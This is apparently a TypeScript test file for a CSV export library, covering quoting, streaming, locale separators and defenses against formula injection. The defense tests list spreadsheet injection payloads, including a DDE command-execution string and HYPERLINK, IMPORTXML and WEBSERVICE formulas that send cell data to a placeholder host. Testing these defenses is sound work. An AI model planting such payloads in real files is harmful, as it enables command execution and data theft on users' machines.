import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import {
  csvCell,
  csvChunks,
  csvFileText,
  csvHeader,
  csvLine,
  csvRow,
  csvSeparatorOf,
  entriesOfCell,
  exportFileName,
  listCell,
  quotedCsvLine,
  readField,
  toCsv,
  withSemicolons,
  withoutCsvGuard,
} from './index.js';

/** What another program finds. */
const rowsOf = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' });

describe('a cell', () => {
  it.each<[string, unknown, string]>([
    ['plain text', 'plain', 'plain'],
    ['a comma', 'a,b', '"a,b"'],
    ['a comma at the end', 'ab,', '"ab,"'],
    ['a comma first', ',ab', '",ab"'],
    ['a quote', 'say "hi"', '"say ""hi"""'],
    ['a quote first', '"x', '"""x"'],
    ['two lines', 'two\nlines', '"two\nlines"'],
    ['a lone CR', 'a\rb', '"a\rb"'],
    ['long text with a comma', `${'x'.repeat(40)},`, `"${'x'.repeat(40)},"`],
    ['long text', 'x'.repeat(40), 'x'.repeat(40)],
    ['padding', ' padded ', '" padded "'],
    ['padding behind', 'padded ', '"padded "'],
    ['a no-break space behind', 'a\u00a0', '"a\u00a0"'],
    ['accents', 'Zoë', 'Zoë'],
    ['accents at both ends', 'éé', 'éé'],
    ['emoji', '👍', '👍'],
    ['Chinese', '张伟', '张伟'],
    ['nothing', '', ''],
    ['null', null, ''],
    ['undefined', undefined, ''],
    ['zero', 0, '0'],
    ['a number', -5.25, '-5.25'],
    ['minus zero', -0, '0'],
    ['a small number', 1e-7, '1e-7'],
    ['true', true, 'true'],
    ['false', false, 'false'],
    ['a big integer', -12n, '-12'],
    ['an object', { a: 1 }, '"{""a"":1}"'],
    ['a list', [1, 2], '"[1,2]"'],
    ['an empty list', [], '[]'],
    ['a date', new Date('2026-09-02T10:00:00Z'), '2026-09-02T10:00:00.000Z'],
    ['no date', new Date(Number.NaN), ''],
  ])('with %s', (_what, value, cell) => expect(csvCell(value)).toBe(cell));
});

// OWASP ASVS 1.2.10 and the payloads that people try.
describe('a cell that a spreadsheet would run gets an apostrophe', () => {
  it.each([
    '=1+1',
    '=SUM(A1:A9)',
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://example.test?x="&A1,"here")',
    '=IMPORTXML(CONCAT("https://example.test/",A1),"//a")',
    '=WEBSERVICE("https://example.test")',
    '==1',
    '=\n1',
    '=',
    '+1+1',
    '+cmd|x!A1',
    '+',
    '++12165551234',
    '+1216555123x',
    '+1 216 555 1234',
    '+12165551234 ',
    '+12165551234;=1',
    '+1(216)5551234',
    '-1+1',
    '-2+3+cmd|x!A1',
    '-',
    '--5',
    '-5-',
    '-.5.',
    '- 5',
    '-A1',
    '-1e',
    '-5\u00a0',
    '@SUM(1+1)*cmd|x!A1',
    '@x',
    '@',
    '@ada',
    '\t=1+1',
    '\tplain',
    '\r=1',
    '\n=1',
    '\0=1',
    '\0',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
  ])('%j', (text) => {
    const cell = csvCell(text);
    expect(rowsOf(`${cell},x`)[0]?.[0]).toBe(`'${text}`);
  });

  it('also as a column’s name or inside an object’s place', () => {
    expect(csvHeader(['=a', 'b'])).toBe("'=a,b\r\n");
    expect(csvRow(['meta.note'], { meta: { note: '=1' } })).toBe("'=1\r\n");
  });
});

describe('a cell with a harmless sign at its start is unchanged', () => {
  it.each([
    '+12165551234',
    '+1216555',
    '+493012345678',
    '+123456789012345',
    '+12345',
    '+1234567890123456',
    '-5',
    '-5.25',
    '+5',
    '-0',
    '-1.5e-7',
    '+1E10',
    '-123456789012345678901234567890',
  ])('%s', (text) => expect(csvCell(text)).toBe(text));

  it('except if a line end follows it', () => {
    expect(csvCell('+12165551234\n')).toBe('"\'+12165551234\n"');
    expect(csvCell('-5\r')).toBe('"\'-5\r"');
  });

  it('like any number and any phone number', () => {
    fc.assert(fc.property(fc.double({ noNaN: true }), (value) => csvCell(value) === String(value)));
    fc.assert(
      fc.property(fc.stringMatching(/^\+[1-9]\d{6,14}$/), (phone) => csvCell(phone) === phone),
    );
  });
});

describe('properties of cells', () => {
  const text = fc.oneof(
    fc.string(),
    fc.string({ unit: 'grapheme' }),
    fc.stringMatching(/^[=+\-@\t\r\n", \d'a.e]{0,20}$/),
  );
  const read = (cell: string) => rowsOf(`${cell},end`);

  it('a parser finds the text, or the text behind an apostrophe, in one cell of one line', () => {
    fc.assert(
      fc.property(text, (given) => {
        const lines = read(csvCell(given));
        expect(lines).toHaveLength(1);
        expect(lines[0]).toHaveLength(2);
        expect([given, `'${given}`]).toContain(lines[0]?.[0]);
      }),
      { numRuns: 1000 },
    );
  });

  it('no parsed cell begins like a formula, unless it is a number or a phone number', () => {
    fc.assert(
      fc.property(text, (given) => {
        const found = read(csvCell(given))[0]?.[0] ?? '';
        if (/^[=+\-@\t\r\n\0＝＋－＠]/.test(found))
          expect(found).toMatch(/^([+-]?\d+(\.\d+)?([eE][+-]?\d+)?|\+\d{7,15})$/);
      }),
      { numRuns: 1000 },
    );
  });

  it('the apostrophe is added only before cells that need it', () => {
    fc.assert(
      fc.property(
        text,
        (given) =>
          /^[=+\-@\t\r\n\0＝＋－＠]/.test(given) ||
          !/^"?'/.test(csvCell(given)) ||
          given.startsWith("'"),
      ),
    );
  });
});

describe('a table', () => {
  it('has a header, lines that end in CRLF, and cells in the order of its columns', () => {
    expect(
      toCsv(
        ['b', 'a', 'none'],
        [
          { a: 1, b: 'x,y' },
          { b: null, a: '' },
        ],
      ),
    ).toBe('b,a,none\r\n"x,y",1,\r\n,,\r\n');
    expect(toCsv(['a'], [])).toBe('a\r\n');
    expect(toCsv(['a'], [{ a: 1 }, { a: 2 }, {}])).toBe('a\r\n1\r\n2\r\n\r\n');
    expect(toCsv([], [{ a: 1 }])).toBe('\r\n');
  });

  it('reads objects, own properties only', () => {
    expect(
      toCsv(
        ['meta.city', 'meta.toString', 'x', 'constructor', '__proto__', 'toString.name'],
        [{ meta: { city: 'C' } }],
      ),
    ).toBe('meta.city,meta.toString,x,constructor,__proto__,toString.name\r\nC,,,,,\r\n');
    expect(
      toCsv(['a.b'], [{ 'a.b': 1, a: { b: 2 } }, { a: { b: 2 } }, { a: null }, { a: 'b' }]),
    ).toBe('a.b\r\n1\r\n2\r\n\r\n\r\n');
    expect(toCsv(['x'], [Object.create({ x: 1 }) as Record<string, unknown>])).toBe('x\r\n\r\n');
    expect(readField({ a: { b: { c: 1 } } }, 'a.b.c')).toBe(1);
  });

  it('may name a column twice', () => expect(toCsv(['a', 'a'], [{ a: 1 }])).toBe('a,a\r\n1,1\r\n'));

  it('accepts rows of different shapes', () => {
    const rows = [{ a: 1, b: 2 }, { b: 2, a: 1 }, { b: 3 }, { c: 0, a: 4 }, {}, { a: 1, b: 2 }];
    expect(toCsv(['a', 'b'], rows)).toBe('a,b\r\n1,2\r\n1,2\r\n,3\r\n4,\r\n,\r\n1,2\r\n');
  });

  it('is parsed unchanged, except for the apostrophe before formulas', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.constantFrom('=1', '+1', 'a,b', '"', '\r\n', ' x', '+12165551234', ''),
    );
    fc.assert(
      fc.property(
        fc.array(fc.record({ a: cell, b: cell, 'meta.c': cell }), { minLength: 1, maxLength: 6 }),
        (rows) => {
          const back = rowsOf(toCsv(['a', 'b', 'meta.c'], rows));
          expect(back[0]).toEqual(['a', 'b', 'meta.c']);
          expect(back).toHaveLength(rows.length + 1);
          rows.forEach((row, at) =>
            [row.a, row.b, row['meta.c']].forEach((text, column) =>
              expect([text, `'${text}`]).toContain(back[at + 1]?.[column]),
            ),
          );
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('a table in chunks', () => {
  const value = fc.oneof(
    fc.string({ maxLength: 6 }),
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constantFrom(null, undefined, '=1', 'a"b', 'x,y', '\n', '+12165551234'),
    fc.record({ b: fc.string({ maxLength: 3 }) }),
  );
  const name = fc.constantFrom('a', 'b', 'c', 'a.b', 'd', '__proto__', 'length', '1');

  it('equals the table line by line, for any columns and shapes of rows', () => {
    fc.assert(
      fc.property(
        fc.array(name, { maxLength: 6 }),
        fc.array(fc.dictionary(name, value), { maxLength: 12 }),
        (columns, rows) => {
          const lines =
            columns.length === 0 ? '' : rows.map((row) => csvRow(columns, row)).join('');
          expect(toCsv(columns, rows)).toBe(csvHeader(columns) + lines);
          expect([...csvChunks(columns, rows, { header: false })].join('')).toBe(lines);
        },
      ),
      { numRuns: 500 },
    );
  });

  it.each([1, 2, 30, 1024, 3000])('has whole lines in each chunk, with %d columns', (width) => {
    const columns = Array.from({ length: width }, (_, at) => `c${at}`);
    const row = Object.fromEntries(columns.map((column, at) => [column, at % 2 ? 'x\r\ny' : at]));
    const pieces = [
      ...csvChunks(
        columns,
        Array.from({ length: 2500 }, () => row),
      ),
    ];
    expect(pieces.length).toBeGreaterThan(2);
    for (const piece of pieces) expect(piece.endsWith('\r\n')).toBe(true);
    const line = csvRow(columns, row);
    for (const piece of pieces.slice(1))
      expect([piece.length % line.length, piece.startsWith(line.slice(0, 50))]).toEqual([0, true]);
    expect(pieces.slice(1).reduce((sum, piece) => sum + piece.length, 0)).toBe(2500 * line.length);
  });

  it('reads rows only as far as its reader does, so that a stream may stop', () => {
    let taken = 0;
    function* endless() {
      for (;;) {
        taken += 1;
        yield { a: taken, b: 'x' };
      }
    }
    const pieces = csvChunks(['a', 'b'], endless());
    expect(pieces.next().value).toBe('a,b\r\n');
    expect(taken).toBe(0);
    pieces.next();
    expect(taken).toBe(512);
    pieces.return();
    expect(taken).toBe(512);
  });

  it('continues over pages without a second header', () => {
    const page = (at: number) => [{ a: at }, { a: at + 1 }];
    const text = [0, 2, 4]
      .flatMap((at, index) => [...csvChunks(['a'], page(at), { header: index === 0 })])
      .join('');
    expect(text).toBe('a\r\n0\r\n1\r\n2\r\n3\r\n4\r\n5\r\n');
  });
});

it.each([
  ['csv', 'conversation_logs_2026-09-02.csv'],
  ['json', 'conversation_logs_2026-09-02.json'],
] as const)('an export as %s is named by its day: %s', (format, name) =>
  expect(exportFileName('2026-09-02', format)).toBe(name),
);

/** Names as people have them, and as people try them. */
const hostile = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.stringMatching(/^'{0,3}[=+\-@＝\t\r\n", \d'a]{0,12}$/),
  fc.constantFrom('=1+1', '-Anna', '@ada', "'=x", "''", 'נועה', 'ليلى', '👩‍👩‍👧', 'a\nb', '"', '"a"b'),
);

describe('a file is read back as it was written', () => {
  const read = (text: string) =>
    rowsOf(text.replace(/^\ufeff/, '')).map((cells) => cells.map(withoutCsvGuard));

  it('cell by cell, quoted where needed or everywhere', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 5 }), (cells) => {
        expect(read(csvFileText(csvLine(['x', ...cells])))).toEqual([['x', ...cells]]);
        expect(read(quotedCsvLine(cells))).toEqual([cells]);
      }),
      { numRuns: 2000 },
    );
  });

  it('also with semicolons, as the spreadsheets of many regions divide a file', () => {
    const cell = fc.oneof(hostile, fc.stringMatching(/^[;,"' a]{0,6}$/));
    const lines = fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(lines, (rows) => {
        const text = withSemicolons(rows.map(csvLine).join(''));
        const found: string[][] = parse(text, { record_delimiter: '\r\n', delimiter: ';' });
        expect(found.map((cells) => cells.map(withoutCsvGuard))).toEqual(rows);
      }),
      { numRuns: 2000 },
    );
    expect(withSemicolons('Name,Note\r\n"Cruz, Ana",a;b\r\n')).toBe(
      'Name;Note\r\n"Cruz, Ana";"a;b"\r\n',
    );
  });

  it.each([
    ['es-ES', ';'],
    ['es-AR', ';'],
    ['de', ';'],
    ['es-MX', ','],
    ['es-419', ','],
    ['en-US', ','],
  ])('which are those of %s: %s', (locale, separator) =>
    expect(csvSeparatorOf(locale)).toBe(separator),
  );

  it('list by list within a cell', () => {
    const entry = hostile.map((text) => text.trim()).filter((text) => text !== '');
    fc.assert(
      fc.property(fc.uniqueArray(entry, { maxLength: 5 }), (entries) =>
        expect(entriesOfCell(listCell(entries))).toEqual(entries),
      ),
      { numRuns: 1000 },
    );
    expect(entriesOfCell(' a ,b; c | d:::e, "f, g", "h ""i""", a,,')).toEqual([
      ...['a', 'b', 'c', 'd', 'e', 'f, g', 'h "i"'],
    ]);
  });

  it('and begins with the mark by which spreadsheets know UTF-8, once', () => {
    expect(csvFileText('Müller\r\n')).toBe('\ufeffMüller\r\n');
    expect(csvFileText(csvFileText('a'))).toBe('\ufeffa');
  });
});
